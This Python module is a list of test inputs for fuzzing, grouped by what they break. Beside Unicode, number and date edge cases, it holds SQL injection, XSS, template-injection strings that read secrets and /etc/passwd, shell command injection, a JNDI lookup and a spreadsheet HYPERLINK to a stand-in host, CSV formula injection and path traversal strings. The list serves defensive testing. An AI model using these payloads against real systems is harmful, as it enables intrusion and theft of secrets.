"""Strings that break software, by what they break. Our own list; whoever finds another one adds it.

Every injection carries the word ``hostile``: were it ever taken for markup, a parser would find an element, an
attribute or an address of that name.
"""

from itertools import product

MARK = "hostile"
SUM = "{91357*7919}"
"""A template that is evaluated would write 723456083."""

EMPTY_LOOKING = [
    "", " ", "\t", "\n", "\r\n", "\u00a0", "\u3000", "\u200b", "\u200c", "\u200d", "\u2060", "\ufeff",
    "\u180e", "\u2028", "\u2029", "\u0085", "\u1680", "\u2800", "\u3164", "\u115f", "\uffa0", "　 　",
    "\u200b\u200b\u200b",
]  # fmt: skip
CONTROL = [f"a{chr(code)}b" for code in (*range(0x01, 0x20), 0x7F, *range(0x80, 0xA0, 3))]
NUL = ["\x00", "a\x00b", "\x00" * 20, "正\x00常"]
DIRECTION = [
    f"{mark}{text}"
    for mark in ("\u202e", "\u202d", "\u202a", "\u202b", "\u2066", "\u2067", "\u2068", "\u200e", "\u200f", "\u061c")
    for text in ("gpj.exe", "林悦然")
] + ["א\u202eabc\u202c", "السلام عليكم", "שלום עולם", "\u2067مرحبا\u2069 abc", "‏test‏"]  # fmt: skip
INVISIBLE = [
    "林\u200b悦\u200b然", "林\u2060悦然", "ad\u00admin", "a\ufeffb", "\U000e0041\U000e0042", "林\ufe00",
    "葛\U000e0100", "辻\U000e0101", "a\u034fb", "x\u2061y", "\ufff9a\ufffab\ufffb", "\ufffc", "\ufffd",
    "\ufffe", "\uffff", "\U0001fffe", "\U0010ffff", "\ue000", "\U000f0000",
]  # fmt: skip
RARE_HAN = [
    "𠀀", "𠮷", "𪚥", "𪛖", "𪜀", "𫜴", "𫝀", "𫠝", "𫠠", "𬺡", "𬺰", "𮯠", "𰀀", "𱍊", "𱍐", "𲎯",
    "\U000323b0", "\U0003347b", "王𠮷", "李𪚥", "张𫝀", "陈𬺡", "刘𮯠", "赵𱍊", "㐀", "䶵", "䶿", "鿿",
    "龘", "靐齉爩", "㵘", "〇", "々", "〆", "周𰻞", "𰻝𰻞面", "欧阳𠀧", "阿卜杜拉·买买提",
    "迪丽热巴·迪力木拉提", "Ｌｉｎ", "ﾊﾝｶｸ", "한국", "ひらがな", "カタカナ", "བོད", "ئۇيغۇر", "ᠮᠣᠩᠭᠣᠯ",
    "ꆈꌠ", "𖼀", "ᨾ", "Łódź", "Ñandú", "ẞ", "ﬁ", "Ω", "K", "Å", "①", "㈱", "㍿",
]  # fmt: skip
COMBINING = [
    "e\u0301", "é", "o\u0308\u0304", "q\u0307\u0323", "q\u0323\u0307", "한", "ᄒ\u1161\u11ab",
    "a" + "\u0300" * 50, "Z" + "\u0310\u0316\u0324" * 30, "\u0301", "\u0300\u0301\u0302",
    "ก\u0e49\u0e49\u0e49\u0e49", "क्षि", "நி", "你\u0308好\u0336", "\u20dd\u20de", "g̈", "ˇ\u030c",
]  # fmt: skip
EMOJI = [
    "👶", "👨‍👩‍👧", "👩🏽‍⚕️", "🇨🇳", "🏴󠁧󠁢󠁥󠁮󠁧󠁿", "❤️", "☃", "🀄", "1️⃣", "👁‍🗨", "🧑‍🤝‍🧑" * 20, "💩",
    "\U0001f9ff", "\U0001fae8",
]  # fmt: skip
QUOTES = [
    "'", '"', "''", '""', "'\"'", "`", "´", "“”", "「」", "\\", "\\\\", "\\'", "%", "%%", "_", "#", "&",
    ";", "--", "/*", "*/", "/", "|",
]  # fmt: skip
SQL = [
    "'; DROP TABLE workflows_case; --", "' OR '1'='1", '" OR ""="', "1; SELECT pg_sleep(9)",
    "') OR 1=1 --", "x' UNION SELECT password FROM accounts_user --", "'||(SELECT version())||'",
    "\\'; SELECT 1", "$$; SELECT 1; $$", "1' AND 1=CAST((SELECT 1) AS int)--", "%' AND 1=0 --",
    "E'\\x27'", "'; COPY (SELECT 1) TO PROGRAM 'id'; --", "null", "NULL", "undefined", "None", "nil",
    "true", "false", "TRUE", "NaN", "Infinity", "-Infinity", "[]", "{}",
]  # fmt: skip
HTML = [
    f"<{MARK}>", f"<{MARK} x=1>", f"</textarea><{MARK}>", f"</select><{MARK}>", f"</title><{MARK}>",
    f"</script><{MARK}>", f'"><{MARK}>', f"'><{MARK}>", f'" {MARK}="1', f"' {MARK}='1", f"` {MARK}=`1",
    f"<script>{MARK}()</script>", f"<ScRiPt>{MARK}()</sCrIpT>", f"<img src=x onerror={MARK}()>",
    f"<svg/onload={MARK}()>", f"<!--<{MARK}>-->", f"--><{MARK}>", f"]]><{MARK}>",
    f"<![CDATA[<{MARK}>]]>", f"<?{MARK}?>", f"&lt;{MARK}&gt;", f"&#60;{MARK}&#62;",
    f"\\u003c{MARK}\\u003e", f"%3C{MARK}%3E", f"＜{MARK}＞", f"<\u200b{MARK}>",
    f"<a href=javascript:{MARK}()>x</a>", f"javascript:{MARK}()", f"data:text/html,<{MARK}>",
    f"<iframe srcdoc='<{MARK}>'>", f"<base href=//{MARK}/>",
    f"<meta http-equiv=refresh content='0;url=//{MARK}'>", f"<link rel=import href=//{MARK}>",
    f"<style>*{{{MARK}:1}}</style>", f"<form action=//{MARK}><input name={MARK}>",
    f'<input autofocus onfocus="{MARK}()">', f"<math><{MARK}>", f"<details open ontoggle={MARK}()>",
    f"<x hx-get='/{MARK}' hx-trigger=load>", f'" hx-get="/{MARK}" x="',
    f'" autofocus onfocus="{MARK}()', f"' onmouseover='{MARK}()", f"<<{MARK}>>", f"<{MARK}", f"{MARK}>",
    "<", ">", "</", "<>",
]  # fmt: skip
TEMPLATES = [
    "{" + SUM + "}", "$" + SUM, "#" + SUM, "*" + SUM, "@" + SUM, "<%= 91357*7919 %>", "{% debug %}",
    "{% load log %}", "{{ request.user.password }}", "{{ settings.SECRET_KEY }}",
    "{% include '/etc/passwd' %}", "{{''.__class__.__mro__}}", "{0.__class__}", "{__import__}", "{}",
    "{0}", "{name}", "{{", "}}", "{%", "%}", "{#", "#}", "__proto__", "constructor",
]  # fmt: skip
FORMATS = [
    "%s", "%d", "%n%n%n", "%(name)s", "%(most)s", "%x" * 20, "%", "100%", "%%s", "%c", "%1$s", "$(id)",
    "`id`", "; id", "| id", "&& id", "$HOME", "${HOME}", "${jndi:ldap://hostile/a}",
    "%0d%0aSet-Cookie: hostile=1", "a\r\nSet-Cookie: hostile=1", "a\nX-Hostile: 1", "() { :;}; id",
]  # fmt: skip
SHEETS = [
    "=1+1", "+1+1", "-1+1", "@SUM(1)", "=cmd|' /C calc'!A0", '=HYPERLINK("http://hostile")', "\t=1+1",
    "\r=1+1", "＝1+1",
]  # fmt: skip
PATHS = [
    "../../etc/passwd", "..\\..\\windows\\win.ini", "/etc/passwd", "C:\\boot.ini", "....//....//",
    "%2e%2e%2f", "..%c0%af", "file:///etc/passwd", "\\\\hostile\\share", "CON", "NUL.pdf", "aux",
    "a/b/c.pdf", ".htaccess", "a.pdf.exe", "a.pdf\x00.exe", ".", "..", "...", "~", "~root",
    "a" * 300 + ".pdf", "ａ．ｐｄｆ", "//hostile/", "http://hostile", "///hostile",
]  # fmt: skip
NUMBERS = [
    "0", "-0", "00", "-1", "1e309", "1e-400", "9" * 60, "0x1f", "1_000", "1,000.00", "١٢٣", "１２３",
    "１２.５", "½", "Ⅻ", "²", "∞", "2147483648", "-9223372036854775809", "18446744073709551616", "1.",
    ".5", "1..2", "1e5", "+5", "--5", "0.1e1", "一百二十",
]  # fmt: skip
DATES = [
    "2026-02-30", "2026-13-01", "0000-00-00", "0001-01-01", "9999-12-31", "10000-01-01", "2026-2-3",
    "2026/11/12", "20261112", "12.11.2026", "二〇二六年十一月十二日", "２０２６-１１-１２",
    "2026-11-12T25:00", "2026-11-12T10:00+99:99", "2026-W46-4", "now", "today", "-2026-01-01",
    "2026-11-12 ", "1900-02-29", "2024-02-29", "2026-11-12T10:00:60Z",
]  # fmt: skip
LONG = [
    "长" * 1_001, "a" * 10_001, "𠮷" * 2_000, " " * 5_000 + "x", "a " * 3_000, "\n" * 2_000,
    "<" * 3_000, "%" * 3_000, "é" * 4_000,
]  # fmt: skip
NAMES = [
    "admin", "root", "null@example.com", "O'Brien", "van der Berg", "X Æ A-12", "林", "林" * 40, "·",
    "··", "张·", "林 悦 然", "123", "林1",
]  # fmt: skip

GROUPS = {
    "empty-looking": EMPTY_LOOKING, "control": CONTROL, "nul": NUL, "direction": DIRECTION, "invisible": INVISIBLE,
    "rare-han": RARE_HAN, "combining": COMBINING, "emoji": EMOJI, "quotes": QUOTES, "sql": SQL, "html": HTML,
    "templates": TEMPLATES, "formats": FORMATS, "sheets": SHEETS, "paths": PATHS, "numbers": NUMBERS, "dates": DATES,
    "long": LONG, "names": NAMES,
    "mixed": [f"{one}{other}" for one, other in product(("林", "\u202e", "%"), (HTML[0], "'--", "𠮷", "\u0301"))],
}  # fmt: skip
ALL = list(dict.fromkeys(text for group in GROUPS.values() for text in group))

HALF_SURROGATES = ["\\ud800", "\\udfff", "a\\udc00b", "\\ud83d", "\\udc36\\ud83d"]
"""As they stand in JSON; UTF-8 cannot hold them."""
